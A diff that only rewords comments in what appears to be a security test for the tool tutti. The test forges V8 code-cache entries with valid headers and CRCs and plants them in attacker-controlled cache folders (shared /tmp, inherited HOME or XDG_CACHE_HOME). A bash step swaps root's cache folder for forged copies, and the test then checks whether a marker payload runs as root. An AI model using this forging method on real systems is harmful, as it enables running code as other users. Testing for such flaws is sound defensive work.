@@ -1,7 +1,8 @@
 /**
- * S1: V8's code cache. Whoever can put an entry where another user's Node looks for one runs code as that user. An entry has a head of 20
- * bytes (magic, length of the source, length of the payload, CRC of the source, CRC of the payload) that anybody can compute, and its
- * name and folder come from path, version and flags alone.
+ * S1: V8's code cache. Anyone who can put an entry where another user's Node looks for one runs code as that
+ * user. An entry has a header of 20 bytes (magic, length of the source, length of the payload, CRC of the
+ * source, CRC of the payload) that anyone can compute. Its name and folder depend only on path, version and
+ * flags.
  */
 import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { basename, dirname, join } from "node:path";
@@ -14,17 +15,17 @@ const SOURCE_LENGTH_AT = 4;
 const SOURCE_CRC_AT = 12;
 const HEAD_BYTES = 20;
 
-/** Environments of a victim in which the attacker's folder is named. */
+/** Environments of a victim that name the attacker's folder. */
 const TRAPS: readonly { readonly what: string; readonly env: (folder: string) => NodeJS.ProcessEnv }[] = [
   { what: "a shared /tmp", env: (folder) => ({ TMPDIR: folder }) },
-  // What sudo -E and su without a dash leave.
+  // As left by sudo -E and by su without a dash.
   { what: "the attacker's HOME", env: (folder) => ({ HOME: folder, TMPDIR: folder }) },
   { what: "the attacker's XDG_CACHE_HOME", env: (folder) => ({ XDG_CACHE_HOME: folder, TMPDIR: folder }) },
 ];
-/** Where a program may keep its cache, below each of those. */
+/** Folders below each of them in which a program may keep its cache. */
 const USUAL = ["node-compile-cache", ".cache/tutti", ".cache/node-compile-cache", "tutti", "tutti-cache"];
 
-/** Runs a package with a cache in a folder of the caller's choice, under the flags that bin/tutti.js sets. */
+/** Runs a package with a cache in a given folder, with the flags that bin/tutti.js sets. */
 const RUNNER = `import module from "node:module";
 import { setFlagsFromString } from "node:v8";
 setFlagsFromString("--no-maglev");
@@ -36,7 +37,7 @@ await import(program);
 
 class Forgery {
   readonly #stage: Stage;
-  /** Each who has run the evil code, a line each. */
+  /** Has a line for each user who has run the evil code. */
   readonly #marks: string;
   readonly #evil: string;
   readonly #runner: string;
@@ -49,7 +50,7 @@ class Forgery {
     chmodSync(this.#marks, 0o666);
     this.#runner = join(stage.makeFolder("runner"), "runner.mjs");
     writeFileSync(this.#runner, RUNNER);
-    // The same package with other code of the same length.
+    // The same package with different code of the same length.
     this.#evil = stage.makeFolder("evil");
     cpSync(stage.package, this.#evil, { recursive: true });
     const code = `process.getBuiltinModule("node:fs").appendFileSync(${JSON.stringify(this.#marks)},process.getuid()+"\\n");`;
@@ -68,10 +69,10 @@ class Forgery {
     writeFileSync(this.#marks, "");
   }
 
-  /** Fills a folder as the attacker, for a victim. Gives how many entries were forged. */
+  /** Fills a folder as the attacker, for a victim. Returns the number of forged entries. */
   async fill(attacker: Account, folder: string, env: NodeJS.ProcessEnv, victimUid: number): Promise<number> {
     const forged = await this.#forge(attacker);
-    // Where her own `tutti` puts its cache she learns by running it.
+    // The attacker learns where her own `tutti` puts its cache by running it.
     await this.#stage.run(attacker, [...this.#stage.tutti, "--version"], env);
     const own = new Set(filesIn(folder).map((path) => dirname(dirname(path))));
     const places = [...USUAL.map((name) => join(folder, name)), ...own];
@@ -82,13 +83,13 @@ class Forgery {
         writeFileSync(join(inside, name), bytes);
       }
     }
-    // What she makes is hers, and readable for her victim's Node.
+    // The files belong to her, and her victim's Node can read them.
     await this.#stage.run(undefined, ["chown", "-R", `${attacker.uid}:${attacker.gid}`, folder]);
     await this.#stage.run(undefined, ["chmod", "-R", "go+rX", folder]);
     return forged.length * places.length;
   }
 
-  /** True names and heads with the payload of the evil code. */
+  /** Entries with correct names and headers and the payload of the evil code. */
   async #forge(attacker: Account) {
     const cacheOf = async (folder: string): Promise<string[]> => {
       const cache = this.#stage.makeFolder("cache", 0o755, attacker);
@@ -119,7 +120,7 @@ class Forgery {
   }
 }
 
-/** Files in a folder and below. */
+/** All files in a folder and its subfolders. */
 function filesIn(folder: string): string[] {
   if (!existsSync(folder)) return [];
   return readdirSync(folder, { recursive: true, withFileTypes: true })
@@ -145,7 +146,9 @@ async function forgedBeforehand(stage: Stage): Promise<Outcome> {
   return tally.outcome(`${forged} forged entries, none was read`);
 }
 
-/** Only the folder on top is hers; root's first run makes its own folder in it, which she renames away and replaces. */
+/**
+ * Only the top folder is hers. Root's first run makes its own folder in it, which she renames and replaces.
+ */
 async function renamedAway(stage: Stage): Promise<Outcome> {
   const { eve } = stage.users;
   const forgery = new Forgery(stage);
@@ -161,7 +164,7 @@ async function renamedAway(stage: Stage): Promise<Outcome> {
         mv "$place/\${one##*/}" "$place/old" 2> /dev/null; cp -r "$one" "$place/"; done; done; true`;
     await stage.run(eve, ["bash", "-c", rename, "bash", folder, forged]);
     forgery.forget();
-    // The evil code has no command line: there it ends at once.
+    // The evil code reads no command line, so it ends at once.
     await stage.serve({ env: env(folder) }).catch(() => {});
     await stage.clear();
     tally.attempt(forgery.victims().includes("0") && `evil code ran as root in tutti serve, by ${what}`);
